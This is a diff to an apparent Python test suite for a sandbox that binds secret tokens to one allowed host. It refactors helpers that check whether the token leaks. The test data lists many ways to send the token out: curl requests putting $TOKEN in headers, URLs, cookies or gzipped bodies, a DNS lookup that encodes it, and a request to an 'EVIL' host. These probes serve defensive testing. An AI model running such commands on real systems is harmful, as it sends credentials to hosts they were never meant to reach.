@@ -11,7 +11,7 @@ import time
 
 from cases_egress import EVIL, GOOD, PY, egress, need
 from cases_secret import NET, VALUE, vault
-from lib import Fail
+from lib import SLOW, Fail
 
 OTHER = "other.example.org"  # allowed, and not bound
 BUNDLE = "/run/bawn/ca.pem"
@@ -66,33 +66,41 @@ def settings(t, w):
     return [*NET, *vault(t)], t.env(SSL_CERT_FILE=w.ca)
 
 
-def stays(t, w, act, settled):
-    """`act` carries the value outside, and inside it does not."""
-    mark = w.mark()
-    t.host(f"CA={w.ca} TOKEN='{VALUE}'; export CA TOKEN; {act}")
-    time.sleep(0.1)
-    if not carried(w, mark):
-        t.skip_act(f"{t.say(act)}: carries nothing outside as well")
-        return None
-    t.acts += 1
-    if t.suite.outside_only:
-        return None
-    mark = w.mark()
-    r = t.bawn(act, settled[0], env=settled[1])
-    time.sleep(0.1)
-    if carried(w, mark):
-        t.failed.append(f"{t.say(act)}: the value arrived: {carried(w, mark)[:1]}")
-    return r
+def starts(t, acts):
+    """The acts that share a start: all of them where it takes long."""
+    return ([acts] if acts else []) if t.tier in SLOW else [[a] for a in acts]
 
 
-def reaches(t, w, act, settled, host=GOOD):
-    """The value arrives at the bound host in its header, and in no other place."""
-    mark = w.mark()
-    r = t.bawn(act, settled[0], env=settled[1])
-    got = carried(w, mark)
-    if not got or any(x["host"] != host or not x["tls"] for x in got):
-        t.failed.append(f"{t.say(act)} should work: {got[:1]} {r}")
-    return r
+def stay(t, w, acts, settled):
+    """Acts that carry the value outside, and inside do not. How many there are."""
+    good = []
+    for act in acts:
+        mark = w.mark()
+        t.host(f"CA={w.ca} TOKEN='{VALUE}'; export CA TOKEN; {act}")
+        time.sleep(0.1)
+        if carried(w, mark):
+            good.append(act)
+        else:
+            t.skip_act(f"{t.say(act)}: carries nothing outside as well")
+    t.acts += len(good)
+    for those in [] if t.suite.outside_only else starts(t, good):
+        mark = w.mark()
+        answered = t.many(those, settled[0], env=settled[1])
+        time.sleep(0.1)
+        if carried(w, mark):
+            t.failed.append(f"{'; '.join(map(t.say, those))}: the value arrived: {carried(w, mark)[:1]}")
+        t.failed += [f"{t.say(a)}: no answer: {t.last}" for a, r in zip(those, answered) if r is None]
+    return len(good)
+
+
+def reach(t, w, acts, settled, host=GOOD):
+    """Each brings the value to the bound host in its header, and to no other place."""
+    for those in starts(t, acts):
+        mark = w.mark()
+        answered = t.many(those, settled[0], env=settled[1])
+        got = carried(w, mark)
+        if len(got) < len(those) or any(x["host"] != host or not x["tls"] for x in got):
+            t.failed.append(f"{'; '.join(map(t.say, those))} should work: {got[:1]} {[str(r) for r in answered]}")
 
 
 @egress(79, "placeholders of secrets become values in one place only")
@@ -102,7 +110,7 @@ def _(t):
     settled = None if t.suite.outside_only else settings(t, w)
     curl = "curl -sSm10 -k"
     bearer = '-H "Authorization: Bearer $TOKEN"'
-    for act in (f"{curl} {bearer} https://{OTHER}/", f"{curl} {bearer} https://{OTHER}/ --noproxy '*'",
+    stay(t, w, [f"{curl} {bearer} https://{OTHER}/", f"{curl} {bearer} https://{OTHER}/ --noproxy '*'",
                 f"{curl} {bearer} http://{GOOD}/", f"{curl} {bearer} http://{GOOD}/ --noproxy '*'",
                 f"{curl} \"https://{GOOD}/$TOKEN\"", f"{curl} \"https://{GOOD}/?t=$TOKEN\"",
                 f'{curl} -H "X-Leak: $TOKEN" https://{GOOD}/', f'{curl} -H "Cookie: t=$TOKEN" https://{GOOD}/',
@@ -110,22 +118,21 @@ def _(t):
                 f'printf %s "$TOKEN" | gzip | {curl} -H "Content-Encoding: gzip" --data-binary @- https://{GOOD}/',
                 f'getent ahosts "$TOKEN.{GOOD}"', f"{PY} {t.tls} {OTHER} Authorization",
                 f"{PY} {t.tls} {GOOD} X-Leak h2", f"{PY} {t.tls} {GOOD} Authorization2",
-                f"{curl} {bearer} https://{EVIL}/"):
-        stays(t, w, act, settled)
+                f"{curl} {bearer} https://{EVIL}/"], settled)
 
 
 @egress(79, "where a secret is bound it works, for every way in")
 def _(t):
     need("curl")
     w = prepare(t)
-    if stays(t, w, f"curl -sSm10 -k -H \"X: $TOKEN\" https://{GOOD}/", None if t.suite.outside_only else settings(t, w)) is None:
+    if not stay(t, w, [f"curl -sSm10 -k -H \"X: $TOKEN\" https://{GOOD}/"], None if t.suite.outside_only else settings(t, w)) \
+            or t.suite.outside_only:
         return
     settled = [*NET, *vault_again(t)], t.env(SSL_CERT_FILE=w.ca)
-    for act in (f'curl -sSm10 -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
-                f'curl -sSm10 --noproxy "*" -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
-                f'curl -sSm10 --http2 -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
-                f"{PY} {t.tls} {GOOD} Authorization h2 http/1.1"):
-        reaches(t, w, act, settled)
+    reach(t, w, [f'curl -sSm10 -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
+                 f'curl -sSm10 --noproxy "*" -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
+                 f'curl -sSm10 --http2 -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
+                 f"{PY} {t.tls} {GOOD} Authorization h2 http/1.1"], settled)
 
 
 def vault_again(t):
@@ -143,17 +150,18 @@ def _(t):
             f'curl -sSm10 -k --compressed -H "Authorization: $TOKEN" https://{GOOD}/echo | {find}',
             f"{PY} {t.tls} {GOOD} Authorization | {find}"]
     settled = None if t.suite.outside_only else settings(t, w)
+    good = []
     for act in acts:
         r = t.host(f"CA={w.ca} TOKEN='{VALUE}'; export CA TOKEN; {act}")
         if "it has True" not in r.out:
             t.skip_act(f"{t.say(act)}: nothing comes back outside as well: {r}")
             continue
         t.acts += 1
-        if t.suite.outside_only:
-            continue
-        r = t.bawn(act, settled[0], env=settled[1])
-        if "it lacks True" not in r.out:
-            t.failed.append(f"{t.say(act)}: {r}")
+        good.append(act)
+    for those in [] if t.suite.outside_only else starts(t, good):
+        for act, r in zip(those, t.many(those, settled[0], env=settled[1])):
+            if r is None or "it lacks True" not in r.out:
+                t.failed.append(f"{t.say(act)}: {r}")
 
 
 @egress(71, "a redirect does not take a secret along")
